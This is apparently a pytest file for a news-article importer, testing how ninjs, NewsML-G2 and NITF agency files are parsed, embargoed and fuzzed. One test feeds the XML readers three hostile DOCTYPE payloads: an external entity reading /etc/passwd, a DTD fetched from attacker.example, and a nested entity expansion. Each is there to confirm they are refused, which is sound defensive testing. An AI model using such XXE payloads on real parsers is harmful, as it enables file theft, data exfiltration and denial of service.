"""The formats of agencies: ninjs, NewsML-G2 and NITF, others' files as their results say and our own."""

from __future__ import annotations

import json
from datetime import datetime
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from articles.copytext import BylineRole, Origin, StoryKind
from articles.importing.item import Fate, LegacyItem, NotAnArticle, Refusal, Standing
from articles.importing.readers import READERS, reader_of
from articles.importing.readers.wire import newsml, ninjs, nitf
from articles.importing.sources.source_file import SourceFile
from articles.korean import nfc
from tests.importing.samples import SAMPLES, assert_reads_as_expected, expected_in

if TYPE_CHECKING:
    from pathlib import Path

NAR = 'xmlns="http://iptc.org/std/nar/2006-10-01/"'


def found_in(data: str | bytes | object, name: str = "old.json") -> list[LegacyItem | Refusal]:
    raw = data if isinstance(data, bytes) else (data if isinstance(data, str) else json.dumps(data)).encode()
    file = SourceFile.of_bytes(raw, name)
    return [each for each in reader_of(file).read(file) if isinstance(each, LegacyItem | Refusal)]


def article(data: str | bytes | object, name: str = "old.json") -> LegacyItem:
    [found] = found_in(data, name)
    assert isinstance(found, LegacyItem), found
    return found


def codes(found: LegacyItem) -> list[str]:
    return [doubt.code.value for doubt in found.doubts]


@pytest.mark.parametrize("path", expected_in("ninjs"), ids=lambda path: path.stem)
def test_ninjs_that_others_made_reads_as_a_person_would(path: Path) -> None:
    assert_reads_as_expected(path, ninjs)


@pytest.mark.parametrize("path", expected_in("newsml-g2"), ids=lambda path: path.stem)
def test_newsml_that_others_made_reads_as_a_person_would(path: Path) -> None:
    assert_reads_as_expected(path, newsml)


@pytest.mark.parametrize("folder", ["ninjs", "newsml-g2"])
def test_every_sample_has_its_expected_result_and_its_reader(folder: str) -> None:
    if not SAMPLES.is_dir():
        pytest.skip("../shared/samples is not beside this repository")
    files = sorted((SAMPLES / folder).iterdir())
    assert [path.stem for path in files] == [path.stem for path in expected_in(folder)]
    for path in files:
        assert reader_of(SourceFile.of_bytes(path.read_bytes(), path.name)) is READERS[folder]


# ninjs -------------------------------------------------------------------------------------------------------


def item(**fields: Any) -> dict[str, Any]:
    return {
        "uri": "https://lantern.example/a/7",
        "type": "text",
        "pubStatus": "usable",
        "versionCreated": "2020-01-02T03:04:05Z",
        "language": "en",
        "headlines": [{"role": "main", "value": "Ferry named"}],
        "bodies": [{"role": "main", "contentType": "text/html", "value": "<p>It was named.</p>"}],
        "by": "Han Do-yun",
    } | fields


def test_the_small_letters_of_the_first_versions_say_the_same() -> None:
    old = {
        "uri": "https://lantern.example/a/7",
        "type": "text",
        "pubstatus": "usable",
        "versioncreated": "2020-01-02T03:04:05Z",
        "language": "en",
        "headline": "Ferry named",
        "byline": "Han Do-yun",
        "body_text": "It was named.",
        "body_html": "<p>It was named.</p>",
        "subject": [{"name": "Ferries"}],
        "associations": {
            "main": {"type": "picture", "byline": "Seo Mi-rae", "description_text": "The ferry", "renditions": {
                "small": {"href": "https://lantern.example/s.jpg", "width": 100},
                "large": {"href": "https://lantern.example/l.jpg", "width": 900},
            }},
            "film": {"type": "video", "uri": "https://lantern.example/film"},
        },
    }  # fmt: skip
    found, new = article(old), article(item())
    assert (found.headline, found.body_html, found.published_at, found.bylines) == (
        new.headline, new.body_html, new.published_at, new.bylines
    )  # fmt: skip
    assert found.tags == ("Ferries",)
    [picture] = found.pictures
    assert (picture.address, picture.caption, picture.credit, picture.is_lead) == (
        "https://lantern.example/l.jpg", "The ferry", "Seo Mi-rae", True
    )  # fmt: skip
    assert found.notes == ("With it: video https://lantern.example/film",)


@pytest.mark.parametrize(
    ("fields", "standing"),
    [
        ({}, Standing.PUBLIC),
        ({"embargoed": "2018-10-23T12:00:00Z"}, Standing.DRAFT),
        ({"pubStatus": "withheld"}, Standing.DRAFT),
        ({"pubStatus": "canceled"}, Standing.TRASH),
        ({"pubStatus": "odd"}, Standing.DRAFT),
        ({"versionCreated": ""}, Standing.DRAFT),
        ({"versionCreated": "soon"}, Standing.DRAFT),
    ],
)
def test_what_may_not_be_published_stays_a_draft(fields: dict[str, str], standing: Standing) -> None:
    found = article(item(**fields))
    assert found.standing is standing
    if "embargoed" in fields:
        assert found.notes == ("Embargoed until 2018-10-23T12:00:00Z",)


def test_sections_roles_and_kinds_of_our_own_kind_come_back() -> None:
    found = article(
        item(
            subjects=[
                {"name": "문화", "rel": "section"},
                {"name": "배", "rel": "about"},
                {"name": "섬들", "rel": "series"},
            ],
            people=[
                {"name": "오새롬", "rel": "photographer", "literal": "oh-sae-rom"},
                {"name": "Somebody", "rel": "about"},
            ],
            genres=[{"name": "인터뷰", "literal": "interview"}],
            altIds=[{"role": "page", "value": "https://lantern.example/en/culture/7/ferry/"}],
            descriptions=[{"role": "deck", "contentType": "text/plain", "value": "A stamp will do"}],
            located="PORT AUREL",
        )
    )
    assert (found.sections, found.tags, found.deck, found.dateline) == (
        ("문화",),
        ("배",),
        "A stamp will do",
        "PORT AUREL",
    )
    [oh] = found.bylines
    assert (oh.name_ko, oh.role, oh.reporter) == ("오새롬", BylineRole.PHOTOGRAPHER, "oh-sae-rom")
    assert (found.kind, found.origin, found.notes) == (StoryKind.INTERVIEW, Origin.OWN, ("Named with it: Somebody",))
    assert found.addresses == ("/en/culture/7/ferry/", "/a/7")


def test_what_was_encoded_twice_is_put_right_and_what_is_broken_is_doubted() -> None:
    once = "부두에 큰 배가 들어온다"
    found = article(item(headlines=[{"role": "main", "value": once.encode().decode("latin-1")}], language="ko"))
    assert (found.headline, codes(found)) == (once, ["encoded-twice"])
    assert codes(article(item(headlines=[{"value": "Ferry \ufffd named"}]))) == ["broken-bytes"]


def test_lists_and_lines_of_items_are_read_one_by_one() -> None:
    for data in (
        [item(), item(uri="b"), {"uri": "c", "headline": ""}],
        {"items": [item(), item(uri="b"), {"uri": "c", "headline": ""}]},
        "\n".join(json.dumps(each) for each in (item(), item(uri="b"), {"uri": "c", "headline": ""})),
    ):
        first, second, refused = found_in(data)
        assert isinstance(first, LegacyItem)
        assert isinstance(second, LegacyItem)
        assert isinstance(refused, Refusal)
        assert (second.source_id, refused.reason) == ("b", "it has no headline")
        assert second.position in {"item 2", "line 2"}


# NewsML-G2 and NITF ------------------------------------------------------------------------------------------


NITF = """<nitf><head><title>Ferry</title><docdata management-status="usable"><doc-id id-string="lantern-7"/>
<date.issue norm="20200102T030405Z"/><doc.copyright holder="Lantern Journal"/><key-list><keyword key="ferry"/></key-list>
<ed-msg info="Check the name"/></docdata><pubdata position.section="Culture"/></head><body><body.head><hedline><hl1>Ferry <em>named</em></hl1>
<hl2>A stamp will do</hl2></hedline><byline>By <person>Han Do-yun</person>, <byttl>Staff Reporter</byttl></byline>
<dateline><location>PORT AUREL</location>, <story.date>Monday</story.date></dateline></body.head><body.content>
<p>It was <em>named</em> by <person>Seo Mi-rae</person> for <money>5 won</money>.</p><hl2>Later</hl2>
<media media-type="image"><media-reference source="a.jpg" width="100"/><media-reference source="b.jpg" width="900" alternate-text="A ferry"/>
<media-caption><p>The ferry</p></media-caption><media-producer>Oh Sae-rom</media-producer></media>
<media media-type="video"><media-reference source="c.mp4"/></media><bq><block><p>Nice &amp; new.</p></block></bq>
<table><tr><td>1</td><td>2</td></tr></table></body.content><body.end><tagline>Edited by nobody</tagline></body.end></body></nitf>"""


def test_a_story_in_nitf_has_all_its_parts() -> None:
    found = article(NITF, "old.xml")
    assert (found.source_id, found.headline, found.deck) == ("lantern-7", "Ferry named", "A stamp will do")
    assert found.published_at == datetime.fromisoformat("2020-01-02T03:04:05+00:00")
    [han] = found.bylines
    assert (han.name_en, han.title, found.dateline) == ("Han Do-yun", "Staff Reporter", "PORT AUREL")
    assert (found.sections, found.tags, found.standing, found.origin) == (
        ("Culture",),
        ("ferry",),
        Standing.PUBLIC,
        Origin.OWN,
    )
    [picture] = found.pictures
    assert (picture.address, picture.caption, picture.alt, picture.credit) == (
        "b.jpg",
        "The ferry",
        "A ferry",
        "Oh Sae-rom",
    )
    assert found.body_html == (
        "<p>It was <em>named</em> by Seo Mi-rae for 5 won.</p><h2>Later</h2>"
        f'<figure class="photo photo--wide" data-photo="{picture.key}"><figcaption>The ferry</figcaption></figure>'
        "<blockquote><p>Nice &amp; new.</p></blockquote><table><tbody><tr><td>1</td><td>2</td></tr></tbody></table>"
    )
    assert found.notes == (
        "Note to editors: Check the name",
        "With it: video c.mp4",
        "Below the text: Edited by nobody",
    )
    assert codes(found) == []


def test_an_embargo_in_nitf_holds() -> None:
    data = NITF.replace('"usable"', '"embargoed"').replace(
        "<date.issue", '<date.release norm="20200105T000000Z"/><date.issue'
    )
    found = article(data, "old.xml")
    assert (found.standing, found.notes[0]) == (Standing.DRAFT, "Note to editors: Check the name")
    assert "Embargoed until 20200105T000000Z" in found.notes


def news_item(content: str, more: str = "", guid: str = "urn:lantern:7") -> str:
    return (
        f'<newsItem {NAR} guid="{guid}" xml:lang="en"><itemMeta><itemClass qcode="ninat:text"/><versionCreated>2020-01-02T03:04:05Z'
        f"</versionCreated><pubStatus qcode='stat:usable'/>{more}</itemMeta><contentMeta><headline>Ferry named</headline>"
        f"<by>Han Do-yun</by><dateline>PORT AUREL, Monday (Reuters)</dateline><genre qcode='genre:feature'/></contentMeta>"
        f"<contentSet>{content}</contentSet></newsItem>"
    )


def test_a_message_holds_many_items() -> None:
    html = '<inlineXML contenttype="application/xhtml+xml"><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><h1>Ferry named</h1><p>One <b>two</b>.</p></body></html></inlineXML>'
    plain = '<inlineData contenttype="text/plain">One.\n\nTwo.</inlineData>'
    data = (
        f"<newsMessage {NAR}><itemSet>{news_item(html)}{news_item(plain, guid='urn:lantern:8')}"
        f"{news_item(plain, '<embargoed>2020-01-05</embargoed>', 'urn:lantern:9')}"
        f"<packageItem/><newsItem><itemMeta><itemClass qcode='ninat:picture'/></itemMeta></newsItem></itemSet></newsMessage>"
    )
    first, second, third, package, picture = found_in(data, "old.xml")
    assert isinstance(first, LegacyItem)
    assert isinstance(second, LegacyItem)
    assert isinstance(third, LegacyItem)
    assert (first.body_html, second.body_html) == ("<p>One <strong>two</strong>.</p>", "<p>One.</p><p>Two.</p>")
    assert [span.text for span in first.spans if span.part == "headline repeated"] == ["<h1>", "Ferry named", "</h1>"]
    assert (first.dateline, first.contributor, first.origin, first.kind) == (
        "PORT AUREL", "Reuters", Origin.WIRE, StoryKind.FEATURE
    )  # fmt: skip
    assert (second.source_id, second.position, third.standing) == ("urn:lantern:8", "item 2", Standing.DRAFT)
    assert [each.reason for each in (package, picture) if isinstance(each, Refusal)] == [
        "it is a package, a list of other items", "it is a picture, no article"
    ]  # fmt: skip


@pytest.mark.parametrize("data", [NITF, news_item("<inlineData>x</inlineData>")])
@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE nitf [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE nitf SYSTEM "http://attacker.example/x.dtd" [<!ENTITY % y SYSTEM "http://attacker.example/y"> %y;]>',
        '<!DOCTYPE nitf [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY x "&b;&b;&b;&b;&b;&b;">]>',
    ],
)
def test_what_a_file_declares_is_refused(data: str, declared: str) -> None:
    with pytest.raises(NotAnArticle, match="it declares things in a DOCTYPE"):
        found_in(declared + data.replace("Ferry", "&x;"), "old.xml")


def test_the_doctype_that_real_files_have_is_passed_over() -> None:
    doctype = '<?xml version="1.0"?>\n<!DOCTYPE nitf SYSTEM "http://www.nitf.org/IPTC/NITF/3.6/specification/dtd/nitf-3-6.dtd">\n'
    assert article(doctype + NITF, "old.xml").source_id == "lantern-7"


def test_text_is_accounted_for() -> None:
    body = "<h1>Ferry named</h1><p>PORT AUREL (AP) -- One.</p><!-- c --><p>Two.</p>"
    found = article(item(bodies=[{"contentType": "text/html", "value": body}]))
    assert "".join(span.text for span in found.spans) == nfc(body)
    assert {span.part for span in found.spans if span.fate is Fate.DROPPED} == {"headline repeated", "comment"}
    assert (found.body_html, found.dateline, found.contributor) == ("<p>One.</p><p>Two.</p>", "PORT AUREL", "AP")


_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=12) | st.sampled_from(["picture", "text/html", "<p>x</p>", "2020-01-02"]),
    lambda inner: st.lists(inner, max_size=3)
    | st.dictionaries(st.sampled_from(["name", "value", "role", "type", "href", "renditions", "width", "contentType", "literal", "rel", "uri"]), inner, max_size=4),
    max_leaves=8,
)  # fmt: skip
_NAMES = st.sampled_from(
    [
        *("uri", "type", "headlines", "headline", "bodies", "body_html", "body_text", "descriptions", "by", "people"),
        *("subjects", "associations", "renditions", "altIds", "genres", "versionCreated", "embargoed", "pubStatus"),
        *("language", "located", "places"),
    ]
)


@settings(deadline=None, max_examples=200)
@given(st.dictionaries(_NAMES, _VALUES, max_size=8))
def test_any_ninjs_is_an_article_or_a_refusal(fields: dict[str, Any]) -> None:
    data = json.dumps(item() | fields).encode()
    try:
        found = list(ninjs.read(SourceFile.of_bytes(data, "x.json")))
    except NotAnArticle as refused:
        assert refused.reason
    else:
        assert all(isinstance(each, LegacyItem | Refusal) for each in found)


def _damaged(data: bytes) -> list[bytes]:
    step = max(1, len(data) // 20)
    return [data[:at] for at in range(0, len(data), step)] + [
        data[:at] + bytes([data[at] ^ flip]) + data[at + 1 :]
        for at in range(0, len(data), step)
        for flip in (0x20, 0x55)
    ]


def test_truncated_and_flipped_files_are_read_or_refused() -> None:
    own = [(ninjs, json.dumps([item(), item()]).encode()), (nitf, NITF.encode()), (newsml, news_item(NITF).encode())]
    others = [
        (READERS[folder], path.read_bytes())
        for folder in ("ninjs", "newsml-g2")
        for path in (sorted((SAMPLES / folder).iterdir()) if SAMPLES.is_dir() else [])
    ]
    for reader, whole in [*own, *others]:
        for data in _damaged(whole):
            try:
                found = list(reader.read(SourceFile.of_bytes(data, "x")))
            except NotAnArticle as refused:
                assert refused.reason
            else:
                assert all(isinstance(each, LegacyItem | Refusal) for each in found)


@settings(deadline=None, max_examples=100)
@given(st.binary(max_size=200), st.integers(0, 1500))
def test_any_bytes_are_read_or_refused(noise: bytes, at: int) -> None:
    for reader, whole in (
        (ninjs, json.dumps(item()).encode()),
        (nitf, NITF.encode()),
        (newsml, news_item(NITF).encode()),
    ):
        try:
            list(reader.read(SourceFile.of_bytes(whole[:at] + noise + whole[at:], "x")))
        except NotAnArticle as refused:
            assert refused.reason
